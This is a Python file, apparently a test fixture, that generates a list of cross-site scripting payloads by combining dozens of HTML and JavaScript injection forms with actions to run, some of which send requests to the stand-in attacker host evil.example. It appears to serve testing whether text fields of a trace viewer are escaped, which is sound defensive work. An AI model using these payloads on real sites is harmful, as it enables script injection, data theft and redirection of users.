"""Ways into a page: each form with each thing that it may run, in each text field of a trace."""

import os

RUNS = ("window.hit=1", "fetch('http://evil.example/x')", "location='http://evil.example/y'", "document.body.remove()")
MORE_RUNS = ("eval('window.hit=1')", "new Image().src='http://evil.example/z'", "alert(1)", "open('http://evil.example/w')",
             "navigator.sendBeacon('http://evil.example/v')", "setTimeout('window.hit=1')")  # fmt: skip
"""Those of the long form."""
FORMS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=http://evil.example/a.js>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "`><img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}'>click</a>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>go</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</pre><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<style>@import 'http://evil.example/x.css';</style>{}",
    "<link rel=stylesheet href=http://evil.example/x.css>{}",
    "<base href=http://evil.example/>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% {} %}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "\x00<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<img/src='x'/onerror={}>",
    "<svg/onload={}//",
    "<a href='&#106;avascript:{}'>x</a>",
    '" onmouseover={} x="',
    "' autofocus onfocus={} x='",
    "<template><script>{}</script></template>",
    "<marquee onstart={}>x</marquee>",
    "\u202e<script>{}</script>",
    "<x style=animation-name:spin onanimationstart={}>",
    "<button popovertarget=x>o</button><p popover id=x onbeforetoggle={}>",
)
PAYLOADS = [
    form.format(run)
    for form in FORMS
    for run in (*RUNS, *(MORE_RUNS if os.environ.get("WEAKLINK_PROMISES") == "long" else ()))
]
